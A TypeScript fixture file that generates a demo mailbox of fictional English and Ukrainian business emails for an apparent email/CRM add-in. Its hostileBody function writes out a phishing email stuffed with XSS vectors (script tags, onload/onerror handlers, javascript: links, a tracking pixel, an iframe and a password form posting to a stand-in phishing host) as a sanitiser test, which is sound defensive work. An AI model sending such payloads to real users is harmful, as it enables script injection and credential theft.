/**
 * The demo mailbox's messages, in English and Ukrainian, dated relative to the moment the demo
 * opens: mail from known clients, a new colleague at a client, unknown senders with signatures,
 * free-mail senders, internal mail, a thread, attachments, the user's own sent mail, and one
 * hostile HTML message that proves the sanitising.
 */
import type { EmailParticipant } from '../../../domain/model/HistoryEntry';
import type { Attachment, MailBody } from '../../../domain/ports';
import type { DemoFolder, DemoMessage } from './DemoMessage';
import { demoPeople as p } from './demoPeople';

type Spec = {
  id: string;
  from: EmailParticipant;
  to?: EmailParticipant[];
  cc?: EmailParticipant[];
  subject: string;
  /** How long before now it arrived. */
  ago: { days?: number; hours?: number; minutes?: number };
  body: MailBody;
  conversation?: string;
  attachments?: Attachment[];
  folder?: DemoFolder;
};

const html = (content: string): MailBody => ({ kind: 'html', content });
const text = (content: string): MailBody => ({ kind: 'text', content });
const MINUTE = 60_000;

function message(now: Date, spec: Spec): DemoMessage {
  const { days = 0, hours = 0, minutes = 0 } = spec.ago;
  const at = new Date(now.getTime() - ((days * 24 + hours) * 60 + minutes) * MINUTE);
  const domain = spec.from.email.split('@')[1] ?? 'mail.example';
  return {
    id: spec.id,
    // Fixed, not dated: the message must keep its identity (and its logged state) over reloads.
    internetMessageId: `<${spec.id}@${domain}>`,
    conversationId: spec.conversation ?? `conv-${spec.id}`,
    subject: spec.subject,
    from: spec.from,
    sender: spec.from,
    to: spec.to ?? [p.me],
    cc: spec.cc ?? [],
    date: at.toISOString(),
    body: spec.body,
    attachments: spec.attachments ?? [],
    categories: [],
    folder: spec.folder ?? 'inbox',
    notification: '',
  };
}

const QUOTE_THREAD = 'conv-contoso-quote-2027';

/** A body of about 2 MB that tries every trick a hostile sender has; the sanitiser must defuse all. */
function hostileBody(): MailBody {
  const filler = '<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor.</p>\n';
  return html(
    [
      '<html><head><script>window.__demoHostileRan = true; alert("head script")</script>',
      '<meta http-equiv="refresh" content="0;url=https://phishing.invalid/">',
      '<style>body { display: none !important }</style></head>',
      '<body onload="window.__demoHostileRan = true">',
      '<h2>Your invoice is overdue</h2>',
      '<p>Dear customer, your account will be suspended within 24 hours.</p>',
      '<img src="https://tracker.invalid/open.gif?id=maria" alt="" width="1" height="1">',
      '<img src="x" onerror="window.__demoHostileRan = true; alert(\'onerror\')" alt="broken">',
      '<p><a href="javascript:window.__demoHostileRan=true;alert(\'link\')">Pay now</a></p>',
      '<p><a href="https://phishing.invalid/login" onclick="window.__demoHostileRan = true">View invoice</a></p>',
      '<iframe src="https://phishing.invalid/frame"></iframe>',
      '<form action="https://phishing.invalid/steal"><input name="password" type="password"><button>Log in</button></form>',
      '<svg onload="window.__demoHostileRan = true"><script>window.__demoHostileRan = true</script></svg>',
      '<div style="background:url(javascript:alert(1))">Styled</div>',
      filler.repeat(Math.ceil(2_000_000 / filler.length)),
      '<script>window.__demoHostileRan = true</script></body></html>',
    ].join('\n'),
  );
}

/** ~25 messages; `now` anchors their dates so the demo always looks current. */
export function demoMessages(now: Date): DemoMessage[] {
  const specs: Spec[] = [
    // A thread of four with a known client, one of them sent by the user.
    {
      id: 'demo-thread-1',
      from: p.olivia,
      subject: 'Quote request: spare parts for 2027',
      ago: { days: 6, hours: 3 },
      conversation: QUOTE_THREAD,
      body: html(
        '<p>Hello Maria,</p><p>We are planning our maintenance budget for 2027. Could you send us a quote for the spare parts ' +
          'listed below, with delivery to our plant in Gdańsk?</p><ul><li>Hydraulic pumps HP-40 — 12 pcs</li>' +
          '<li>Seal kits SK-12 — 200 pcs</li><li>Control valves CV-8 — 30 pcs</li></ul><p>Best regards,<br>Olivia Bennett<br>' +
          'Procurement Manager, Contoso Ltd<br>+44 20 7946 0321</p>',
      ),
    },
    {
      id: 'demo-thread-2',
      from: p.me,
      to: [p.olivia],
      subject: 'RE: Quote request: spare parts for 2027',
      ago: { days: 5, hours: 22 },
      conversation: QUOTE_THREAD,
      folder: 'sent',
      body: text(
        'Hello Olivia,\n\nThank you for the request. The quote is attached; prices hold until 31 January. ' +
          'Delivery to Gdańsk takes three weeks from the order.\n\nKind regards,\nMaria Koval\nKey Account Manager, Clientbook Sales',
      ),
      attachments: [{ name: 'Quote-2027-Contoso.pdf', size: 182_331, contentType: 'application/pdf', isInline: false }],
    },
    {
      id: 'demo-thread-3',
      from: p.olivia,
      cc: [p.james],
      subject: 'RE: Quote request: spare parts for 2027',
      ago: { days: 2, hours: 5 },
      conversation: QUOTE_THREAD,
      body: html(
        '<p>Hi Maria,</p><p>Thanks, the prices look fine. James from our finance team will confirm the payment terms. ' +
          'Can you add 10 more control valves?</p><p>Olivia</p>',
      ),
    },
    {
      id: 'demo-thread-4',
      from: p.james,
      cc: [p.olivia],
      subject: 'RE: Quote request: spare parts for 2027',
      ago: { hours: 20 },
      conversation: QUOTE_THREAD,
      body: text(
        'Dear Maria,\n\nWe can accept 30 days net from the invoice date. Please send the updated quote with 40 control valves, ' +
          'and we will issue the purchase order this week.\n\nRegards,\nJames Wright\nFinance Director, Contoso Ltd',
      ),
    },
    // A known client with attachments, in Ukrainian.
    {
      id: 'demo-attachments',
      from: p.andrii,
      subject: 'Замовлення на насіння — весна 2027',
      ago: { hours: 3 },
      body: html(
        '<p>Добрий день, Маріє!</p><p>Надсилаю специфікацію на весняну посівну та підписаний договір. ' +
          'Просимо підтвердити терміни постачання до 15 лютого.</p><p>З повагою,<br>Андрій Шевчук<br>' +
          'Директор із закупівель, ТОВ «Полісся Агро»<br>+380 44 123 45 67</p>',
      ),
      attachments: [
        { name: 'Специфікація-весна-2027.xlsx', size: 48_214, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', isInline: false },
        { name: 'Договір-постачання-2027.pdf', size: 734_902, contentType: 'application/pdf', isInline: false },
        { name: 'logo.png', size: 5_120, contentType: 'image/png', isInline: true },
      ],
    },
    // A new colleague at a known client's domain.
    {
      id: 'demo-new-colleague',
      from: p.tom,
      subject: 'Introduction: I am taking over logistics purchasing at Contoso',
      ago: { days: 1, hours: 2 },
      body: text(
        'Hello Maria,\n\nI joined Contoso last month and now handle logistics purchasing, including packaging materials. ' +
          'Olivia suggested I get in touch. Could we have a short call next week?\n\nBest,\nTom Harris\nLogistics Buyer\nContoso Ltd\n+44 20 7946 0877',
      ),
    },
    {
      id: 'demo-new-colleague-uk',
      from: p.natalia,
      cc: [p.andrii],
      subject: 'Нова контактна особа з питань оплат',
      ago: { days: 4, hours: 1 },
      body: text(
        'Добрий день!\n\nВідтепер питання оплат і звірки рахунків у ТОВ «Полісся Агро» веду я. ' +
          'Прошу надсилати акти звірки на цю адресу.\n\nНаталія Бойко\nГоловний бухгалтер\n+380 44 123 45 70',
      ),
    },
    // Known clients.
    {
      id: 'demo-fabrikam-demo',
      from: p.daniel,
      subject: 'Demo next week?',
      ago: { days: 2, hours: 1 },
      body: html(
        '<p>Hi Maria,</p><p>Our warehouse team would like to see the tracking module. Would Tuesday or Wednesday afternoon work ' +
          'for a one-hour online demo?</p><p>Thanks,<br>Daniel Kim<br>Operations Manager, Fabrikam Logistics</p>',
      ),
    },
    {
      id: 'demo-joint-meeting',
      from: p.daniel,
      cc: [p.olivia, p.grace],
      subject: 'Joint planning: Contoso deliveries in Q1',
      ago: { hours: 6 },
      body: html(
        '<p>Hello everyone,</p><p>Fabrikam will carry Contoso\'s spare parts from January. Let us agree on pallet sizes and ' +
          'delivery windows in one call. Grace coordinates our side.</p><p>Daniel</p>',
      ),
    },
    {
      id: 'demo-dnipro-invoice',
      from: p.olena,
      subject: 'Рахунок та умови доставки',
      ago: { hours: 4 },
      body: text(
        'Маріє, добрий день!\n\nДякуємо за пропозицію. Чи можлива доставка двома партіями — у грудні та в лютому? ' +
          'Якщо так, виставте, будь ласка, рахунок на першу партію.\n\nЗ повагою,\nОлена Литвиненко\nМенеджер із постачання\nТОВ «Дніпро Сталь Сервіс»\n+380 56 789 01 23',
      ),
    },
    {
      id: 'demo-northwind-prices',
      from: p.sophie,
      subject: 'Price list request for our spring catalogue',
      ago: { days: 8 },
      body: text(
        'Dear Maria,\n\nWe are preparing our spring catalogue. Could you send your current wholesale price list and the minimum order quantities?\n\n' +
          'Kind regards,\nSophie Turner\nCategory Buyer, Northwind Traders\n+44 161 496 0752',
      ),
    },
    {
      id: 'demo-karpaty-renewal',
      from: p.ivan,
      subject: 'Поновлення співпраці',
      ago: { days: 12 },
      body: text(
        'Добрий день!\n\nМи відкриваємо новий салон у Львові й хотіли б відновити закупівлі фурнітури. ' +
          'Чи діють ще наші умови 2025 року?\n\nІван Гнатюк\nВласник, «Карпатські меблі»',
      ),
    },
    // Unknown senders at business domains, with signatures "Create client" reads.
    {
      id: 'demo-unknown-litware',
      from: p.mark,
      subject: 'Request for proposal: 40 workstations',
      ago: { hours: 1, minutes: 10 },
      body: text(
        'Hello,\n\nWe found you at the Kyiv IT Expo. Litware is equipping a new office and needs 40 workstations with ' +
          'three-year service. Please send a proposal by Friday.\n\nBest regards,\n\nMark Davies\nHead of Procurement\n' +
          'Litware Inc.\nPhone: +1 425 555 0143\nwww.litware.com',
      ),
    },
    {
      id: 'demo-unknown-volyn',
      from: p.yulia,
      subject: 'Запит комерційної пропозиції',
      ago: { hours: 26 },
      body: html(
        '<p>Добрий день!</p><p>ТОВ «Волинь Буд» будує складський комплекс у Луцьку. Просимо надіслати комерційну пропозицію ' +
          'на металеві стелажі (орієнтовно 600 погонних метрів).</p><p>З повагою,</p><p>Юлія Мельник<br>Менеджер із закупівель<br>' +
          'ТОВ «Волинь Буд»<br>тел. +380 332 71 20 45<br>www.volyn-bud.com.ua</p>',
      ),
    },
    {
      id: 'demo-unknown-proseware',
      from: p.lukas,
      subject: 'Trade fair follow-up: Hannover Messe',
      ago: { days: 3, hours: 4 },
      body: text(
        'Dear Ms Koval,\n\nIt was a pleasure to meet you at our stand. As discussed, we are looking for a distributor in Ukraine ' +
          'for our sensors. I would be glad to arrange a video call.\n\nWith kind regards\n\nLukas Schneider\nSales Director Eastern Europe\n' +
          'Proseware GmbH\nTel. +49 511 123 4567\nwww.proseware.de',
      ),
    },
    {
      id: 'demo-unknown-kharkivpak',
      from: p.oleh,
      subject: 'Пропозиція співпраці: пакування',
      ago: { days: 5, hours: 2 },
      body: text(
        'Шановна пані Маріє!\n\nМи виробляємо гофротару й можемо запропонувати пакування для ваших поставок за цінами виробника. ' +
          'Каталог — на нашому сайті.\n\nОлег Бондар\nДиректор\nТОВ «Харків Пак»\n+380 57 700 12 34\nwww.kharkivpak.com.ua',
      ),
    },
    {
      id: 'demo-newsletter',
      from: p.fourthCoffee,
      subject: 'Your December offers from Fourth Coffee',
      ago: { days: 1, hours: 7 },
      body: html(
        '<table role="presentation" width="100%"><tr><td><img src="https://images.fourthcoffee.invalid/banner.jpg" alt="Winter blend" width="560">' +
          '<h1>Winter blend is back</h1><p>Order office coffee before 20 December and get free delivery.</p>' +
          '<p><a href="https://fourthcoffee.invalid/offers">See the offers</a></p>' +
          '<p><small>Fourth Coffee · <a href="https://fourthcoffee.invalid/unsubscribe">Unsubscribe</a></small></p></td></tr></table>',
      ),
    },
    {
      id: 'demo-order-confirmation',
      from: p.tailspin,
      subject: 'Order #TT-48213 confirmed',
      ago: { days: 9, hours: 5 },
      body: text('Thank you for your order #TT-48213 (3 items). It ships within two working days.\n\nTailspin Toys — this mailbox is not monitored.'),
    },
    // Free-mail senders.
    {
      id: 'demo-free-ukrnet',
      from: p.iryna,
      subject: 'Питання щодо доставки у Львів',
      ago: { hours: 2, minutes: 30 },
      body: text('Добрий день! Чи доставляєте ви замовлення у Львів і скільки це коштує для 5 коробок? Дякую, Ірина'),
    },
    {
      id: 'demo-free-gmail',
      from: p.peter,
      subject: 'Question about your products',
      ago: { days: 1, hours: 9 },
      body: text('Hi, I run a small repair workshop in Bratislava. Do you sell spare parts to private businesses without a contract? Thanks, Peter'),
    },
    {
      id: 'demo-free-outlook',
      from: p.anna,
      subject: 'Partnership from Poland',
      ago: { days: 3, hours: 8 },
      body: html('<p>Hello Maria,</p><p>I am an independent sales agent in Kraków and would like to represent your products in southern Poland.</p><p>Anna Kowalska</p>'),
    },
    {
      id: 'demo-free-iua',
      from: p.serhii,
      subject: 'Резюме: менеджер з продажу',
      ago: { days: 7, hours: 1 },
      body: text('Добрий день! Надсилаю резюме на вакансію менеджера з продажу. Маю 4 роки досвіду у B2B. Сергій Ткаченко'),
      attachments: [{ name: 'Tkachenko-CV.pdf', size: 96_440, contentType: 'application/pdf', isInline: false }],
    },
    // Internal colleagues.
    {
      id: 'demo-internal-agenda',
      from: p.taras,
      to: [p.me, p.oksana],
      subject: 'Weekly sales meeting: agenda',
      ago: { hours: 8 },
      body: text('Hi both,\n\nAgenda for Monday: pipeline review, the Contoso order, Hannover Messe leads.\n\nTaras'),
    },
    {
      id: 'demo-internal-report',
      from: p.oksana,
      subject: 'Звіт про продажі за місяць',
      ago: { days: 2, hours: 10 },
      body: text('Маріє, нагадую: звіт про продажі за місяць — до п’ятниці. Шаблон у спільній папці.\n\nОксана'),
      attachments: [{ name: 'Звіт-шаблон.xlsx', size: 22_016, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', isInline: false }],
    },
    // The user's own sent mail.
    {
      id: 'demo-sent-offer',
      from: p.me,
      to: [p.olena],
      subject: 'Комерційна пропозиція: арматура А500С',
      ago: { days: 1, hours: 4 },
      folder: 'sent',
      body: text('Олено, добрий день!\n\nНадсилаю комерційну пропозицію на арматуру А500С. Ціни дійсні до кінця місяця.\n\nМарія Коваль\nClientbook Sales'),
      attachments: [{ name: 'КП-Дніпро-Сталь.pdf', size: 154_880, contentType: 'application/pdf', isInline: false }],
    },
    // Hostile HTML: scripts, handlers, javascript: links, remote images, 2 MB.
    {
      id: 'demo-hostile',
      from: p.hostile,
      subject: 'Invoice overdue — action required',
      ago: { hours: 5, minutes: 15 },
      body: hostileBody(),
    },
  ];
  return specs.map((spec) => message(now, spec));
}
